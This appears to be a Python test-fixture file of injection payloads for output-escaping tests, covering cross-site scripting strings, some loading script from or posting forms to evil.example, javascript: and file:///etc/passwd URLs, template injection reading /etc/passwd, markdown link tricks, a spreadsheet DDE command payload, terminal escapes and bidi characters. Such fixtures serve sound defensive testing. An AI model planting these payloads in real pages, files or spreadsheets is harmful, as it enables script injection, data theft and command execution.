"""Texts that want to be more than text, wherever they are shown."""

KOREAN = "한국어 제목"
HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</td></table><script>alert(1)</script>",
    "</details></main><h1>gone</h1>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onclick=`alert(1)",
    '"><iframe src="javascript:alert(1)">',
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=a>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{0.__class__}{title}",
    "<details open ontoggle=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://user:secret@evil.example/",
    "https://evil.example/\u202egnp.exe",
    "https:evil.example",
    'https://evil.example/"onmouseover="alert(1)',
    "mailto:ada@example.org?subject=x&body=y",
)
MARKDOWN = (
    "https://evil.example/)[x](javascript:alert(1)",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<https://evil.example>",
    "[x]: https://evil.example",
    "# Heading\n\n- list\n\n1. one",
    "| a | b |\n|---|---|",
    "```\ncode",
    "`x` **bold** _it_ ~~gone~~",
    "@everyone #1 $x^2$",
    "\\[x\\](https://evil.example)",
)
SPREADSHEET = (
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "a\x00b\x08c\x7f",
)
ORDER = ("\u202eevil\u202c", "\u2066x\u2069", "zero\u200bwidth")
PAYLOADS = (*HTML, *ADDRESSES, *MARKDOWN, *SPREADSHEET, *TERMINAL, *ORDER)
